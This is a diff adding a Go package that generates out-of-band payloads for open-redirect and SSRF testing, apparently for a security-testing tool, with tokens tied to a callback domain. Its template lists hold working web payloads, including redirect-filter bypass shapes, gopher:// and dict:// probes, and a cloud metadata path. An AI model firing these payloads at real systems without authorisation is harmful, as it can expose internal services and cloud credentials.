@@ -0,0 +1,106 @@
+// Package oast generates out-of-band testing payloads for open-redirect and
+// SSRF probing. Every payload embeds a unique token inside the project's
+// callback domain, so an interaction hitting the callback server can be
+// correlated back to the exact payload and transaction that triggered it.
+package oast
+
+import (
+	"fmt"
+	"strings"
+	"time"
+
+	"gleip/backend/network"
+)
+
+// PayloadKind names a payload family.
+type PayloadKind string
+
+const (
+	KindOpenRedirect PayloadKind = "open-redirect"
+	KindSSRF         PayloadKind = "ssrf"
+)
+
+// Interaction is one observed callback hit attributed to a payload.
+type Interaction struct {
+	Time   time.Time `json:"time"`
+	Source string    `json:"source"`
+	Detail string    `json:"detail,omitempty"`
+}
+
+// IssuedPayload is one generated payload together with everything needed to
+// turn a later callback into an evidence-ready finding.
+type IssuedPayload struct {
+	Token     string      `json:"token"`
+	Kind      PayloadKind `json:"kind"`
+	Payload   string      `json:"payload"`
+	CreatedAt time.Time   `json:"createdAt"`
+	// TransactionID links the payload to the request it was injected into,
+	// once known.
+	TransactionID string        `json:"transactionId,omitempty"`
+	Interactions  []Interaction `json:"interactions,omitempty"`
+}
+
+// openRedirectTemplates and ssrfTemplates hold the payload shapes; %s is
+// replaced with the tokenized callback host.
+var openRedirectTemplates = []string{
+	"https://%s/",
+	"//%s/",
+	"https:/\\%s/",
+	"/%%2f%s/",
+	"https://trusted.example@%s/",
+	"https://%s%%2f.example.com/",
+}
+
+var ssrfTemplates = []string{
+	"http://%s/",
+	"https://%s/",
+	"http://%s:80/",
+	"gopher://%s:80/_",
+	"http://%s/latest/meta-data/",
+	"dict://%s:11211/",
+}
+
+// Generate issues one payload per template for the given kind, embedding
+// fresh correlation tokens under callbackDomain.
+func Generate(kind PayloadKind, callbackDomain string) ([]*IssuedPayload, error) {
+	if callbackDomain == "" {
+		return nil, fmt.Errorf("no OAST callback domain configured")
+	}
+	var templates []string
+	switch kind {
+	case KindOpenRedirect:
+		templates = openRedirectTemplates
+	case KindSSRF:
+		templates = ssrfTemplates
+	default:
+		return nil, fmt.Errorf("unknown payload kind %q", kind)
+	}
+	now := time.Now()
+	payloads := make([]*IssuedPayload, 0, len(templates))
+	for _, tmpl := range templates {
+		token := network.NewID()[:16]
+		host := token + "." + callbackDomain
+		payloads = append(payloads, &IssuedPayload{
+			Token:     token,
+			Kind:      kind,
+			Payload:   fmt.Sprintf(tmpl, host),
+			CreatedAt: now,
+		})
+	}
+	return payloads, nil
+}
+
+// TokenFromHost extracts the correlation token from a callback hostname like
+// "<token>.<callbackDomain>", or "" when the host does not match.
+func TokenFromHost(host, callbackDomain string) string {
+	host = strings.ToLower(strings.TrimSuffix(host, "."))
+	suffix := "." + strings.ToLower(callbackDomain)
+	if callbackDomain == "" || !strings.HasSuffix(host, suffix) {
+		return ""
+	}
+	token := strings.TrimSuffix(host, suffix)
+	if strings.Contains(token, ".") || token == "" {
+		return ""
+	}
+	return token
+}